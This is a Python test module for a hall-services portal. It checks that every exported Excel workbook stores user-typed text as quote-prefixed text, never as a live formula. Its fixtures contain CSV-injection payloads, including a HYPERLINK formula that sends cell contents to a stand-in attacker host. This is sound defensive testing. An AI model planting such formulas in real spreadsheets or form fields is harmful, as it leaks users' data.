"""No workbook the portal writes carries a formula typed by a user (issue 11 item 2).

Every kind of workbook is built from a hall whose every user-typed text is hostile (a
spreadsheet formula, or text starting with a character a spreadsheet reads as one, per
OWASP's CSV-injection guidance), saved, read back with openpyxl and checked: no cell is a
formula except the portal's own (ALLOWED_FORMULAS: none today), every hostile text is
there unchanged as a text cell, marked quotePrefix (so a spreadsheet keeps it as text even
when it is edited), and numbers and dates stay typed values. LibreOffice then renders a
bulletin to CSV and must show the hostile text literally, not evaluated.
"""

import csv
import datetime as dt
import io
import os
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from complaints.models import Complaint
from evaluations.models import Rating
from evaluations.rollups import rollups_rebuild
from rectification.exports import write_checklist_xlsx
from rectification.models import Inspection, Measure, RectificationChecklist
from reports.services import bulletin_build
from reports.workbooks import write_annual_review
from tests.windows.factories import (
    SHANGHAI,
    DepartmentFactory,
    HallFactory,
    ServiceItemFactory,
    StaffFactory,
    UserFactory,
    VisitFactory,
    WindowFactory,
    ZoneFactory,
)
from windows.exports import write_service_items_xlsx, write_windows_xlsx
from windows.models import ServiceItem, VisitItem, Window

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("//x.y")'
EXFILTRATE = '=HYPERLINK("http://attacker.invalid/?d="&B2,"点击查看详情")'
# The same attack within a 50-character field (PostgreSQL enforces the length).
EXFILTRATE_50 = '=HYPERLINK("http://a.invalid/?d="&B2,"点击查看详情")'
HOSTILE = (LINK, EXFILTRATE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# The formulas the portal writes itself (sheet, coordinate): none.
ALLOWED_FORMULAS: frozenset[tuple[str, str]] = frozenset()
MONDAY = dt.date(2020, 9, 28)


def read_back(text: str) -> str:
    """A text as a reader gets it back: XML turns a CR into a line feed (XML 1.0 §2.11)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def hostile_hall(db):
    """A hall whose names, tickets, codes, comments, measures... are all hostile text."""
    hall = HallFactory(code="HX", name=EXFILTRATE)
    zone = ZoneFactory(hall=hall, name="@SUM(A1)")
    department = DepartmentFactory(hall=hall, name="-2+3")
    windows = [
        WindowFactory(hall=hall, number=number, name=name, zone=zone, department=department)
        for number, name in ((1, EXFILTRATE), (2, "+1+1"), (3, LINK), (4, "\r=1"))
    ]
    items = [
        ServiceItemFactory(code="\r=1", name=LINK, category="+1+1", required_materials="@SUM(A1)"),
        ServiceItemFactory(
            code="\t=1",
            name="-2+3",
            category=EXFILTRATE_50,
            required_materials=EXFILTRATE,
            handling=ServiceItem.Handling.TIME_LIMITED,
            promised_working_days=5,
        ),
    ]
    windows[0].service_items.set(items)
    windows[1].service_items.set(items[1:])  # its codes: "\t=1"
    staff_1 = StaffFactory(hall=hall, badge_no="\t=1", display_name=LINK)
    staff_2 = StaffFactory(hall=hall, badge_no="-2+3", display_name="@SUM(A1)")
    visits = [
        VisitFactory(hall=hall, window=window, staff=staff, ticket_no=ticket, service_date=day)
        for window, staff, ticket, day in (
            (windows[0], staff_1, LINK, MONDAY),
            (windows[0], staff_1, "\r=1", MONDAY),
            (windows[1], staff_2, "+1+1", MONDAY),
            (windows[1], staff_2, "@SUM(A1)", dt.date(2020, 9, 29)),
        )
    ]
    for visit in visits:
        VisitItem.objects.create(visit=visit, service_item=items[0])
    for visit, level, comment in ((visits[0], 1, EXFILTRATE), (visits[2], 2, "-2+3")):
        Rating.objects.create(
            visit=visit,
            level=level,
            reasons=["attitude"],
            comment=comment,
            rated_at=visit.finished_at,
            source=Rating.Source.TABLET,
        )
    rollups_rebuild()  # the factories write visits and ratings without the services
    Complaint.objects.create(
        hall=hall,
        channel="hotline",
        work_order_no="=1+1",
        complainant_name=LINK,
        received_at=dt.datetime(2020, 9, 28, 10, 0, tzinfo=SHANGHAI),
        due_date=dt.date(2020, 9, 29),
    )
    checklist = RectificationChecklist.objects.create(
        hall=hall,
        title=EXFILTRATE,
        source=RectificationChecklist.Source.QUESTIONNAIRE,
        period_start=dt.date(2020, 9, 1),
        period_end=dt.date(2020, 12, 31),
    )
    verifier = UserFactory(username="verifier", first_name="+1+1")
    common = {"checklist": checklist, "responsible_department": department}
    Measure.objects.create(
        **common, order=1, title=LINK, deadline=dt.date(2020, 10, 1),
        status=Measure.Status.VERIFIED, progress_pct=100, completed_on=dt.date(2020, 9, 30),
        evidence_notes="@SUM(A1)", verified_by=verifier, responsible_person=staff_1.user,
        verified_at=dt.datetime(2020, 9, 30, 9, 30, tzinfo=SHANGHAI),
    )  # fmt: skip
    Measure.objects.create(
        **common, order=2, title="\t=1", deadline=dt.date(2020, 9, 29), evidence_notes="\r=1",
        status=Measure.Status.IN_PROGRESS, progress_pct=50, responsible_person=staff_2.user,
    )  # fmt: skip
    inspection = Inspection.objects.create(
        hall=hall, group_name="-2+3", visited_on=dt.date(2020, 9, 28), findings=EXFILTRATE
    )
    inspection.best_windows.set([windows[0]])
    inspection.worst_windows.set([windows[1]])
    return hall


def _bulletin(kind):
    def build(hall):
        bulletin = bulletin_build(hall=hall, kind=kind, day=MONDAY)
        with bulletin.workbook.open("rb") as stored:
            return stored.read()

    return build


def _annual(hall):
    output = io.BytesIO()
    write_annual_review(hall=hall, year=2020, output=output)
    return output.getvalue()


def _windows_export(hall):
    output = io.BytesIO()
    write_windows_xlsx(Window.objects.filter(hall=hall), output)
    return output.getvalue()


def _service_items_export(hall):
    output = io.BytesIO()
    write_service_items_xlsx(ServiceItem.objects.all(), output)
    return output.getvalue()


def _checklist(hall):
    output = io.BytesIO()
    write_checklist_xlsx(
        RectificationChecklist.objects.get(hall=hall), output, today=dt.date(2020, 10, 5)
    )
    return output.getvalue()


WORKBOOKS = {
    "daily bulletin": _bulletin("daily"),
    "weekly bulletin": _bulletin("weekly"),
    "monthly bulletin": _bulletin("monthly"),
    "annual review": _annual,
    "windows export": _windows_export,
    "service items export": _service_items_export,
    "rectification checklist": _checklist,
}


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


@pytest.mark.parametrize("kind", WORKBOOKS)
def test_hostile_text_is_written_as_text_never_as_a_formula(hostile_hall, kind):
    cells = list(_cells(WORKBOOKS[kind](hostile_hall)))

    formulas = {
        (title, cell.coordinate): cell.value for title, cell in cells if cell.data_type == "f"
    }
    assert set(formulas) <= ALLOWED_FORMULAS, formulas
    texts = {cell.value for _title, cell in cells if cell.data_type == "s"}
    missing = {text for text in HOSTILE if read_back(text) not in texts}
    assert not missing, f"hostile texts not written unchanged as text: {missing}"
    unprefixed = {
        (title, cell.coordinate): cell.value
        for title, cell in cells
        if cell.data_type == "s" and cell.value.startswith(TRIGGERS) and not cell.quotePrefix
    }
    assert not unprefixed, unprefixed


def test_numbers_and_dates_stay_typed_values(hostile_hall):
    windows = load_workbook(io.BytesIO(_windows_export(hostile_hall)))["窗口"]
    assert [row[2] for row in windows.iter_rows(min_row=2, values_only=True)] == [1, 2, 3, 4]
    items = load_workbook(io.BytesIO(_service_items_export(hostile_hall)))["经办事项"]
    promised = [row[4] for row in items.iter_rows(min_row=2, values_only=True)]
    assert promised == [5, None]  # in code order: "\t=1", then "\r=1"
    detail = load_workbook(io.BytesIO(_annual(hostile_hall)))["明细"]
    first = next(detail.iter_rows(min_row=2, max_row=2))
    assert first[1].is_date
    assert first[1].value == dt.datetime(2020, 9, 28)
    assert first[7].value == 1 and first[7].data_type == "n"
    checklist = load_workbook(io.BytesIO(_checklist(hostile_hall)))["整改清单"]
    assert [row[0] for row in checklist.iter_rows(min_row=3, values_only=True)] == [1, 2]
    assert [row[7] for row in checklist.iter_rows(min_row=3, values_only=True)] == [0, 6]


@pytest.mark.skipif(
    shutil.which("soffice") is None and not os.environ.get("CI"),
    reason="LibreOffice is not installed (CI installs it: .ci/run; there the test must run)",
)
def test_libreoffice_shows_the_hostile_text_literally(hostile_hall, tmp_path):
    path = tmp_path / "bulletin.xlsx"
    path.write_bytes(_bulletin("daily")(hostile_hall))

    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--headless",
            "--convert-to",
            # every sheet, each to its own file (bulletin-<sheet>.csv): the bad reviews
            # are a sheet of their own
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )

    assert result.returncode == 0, result.stderr
    values = set()
    for rendered_path in tmp_path.glob("bulletin*.csv"):
        with open(rendered_path, encoding="utf-8", newline="") as rendered:
            values |= {value for row in csv.reader(rendered) for value in row}
    # The summary sheet's title starts with the hall's name; the bad reviews list the
    # window, the staff member and the comment. Evaluated, they would read 点击查看详情,
    # //x.y or an error instead.
    assert EXFILTRATE in values  # the window's name and the comment
    assert LINK in values  # the staff member's name
    assert any(value.startswith(EXFILTRATE + "2020年09月28日") for value in values)
    assert "点击查看详情" not in values
    assert "//x.y" not in values
    assert not any(value.startswith(("Err:", "#")) for value in values)
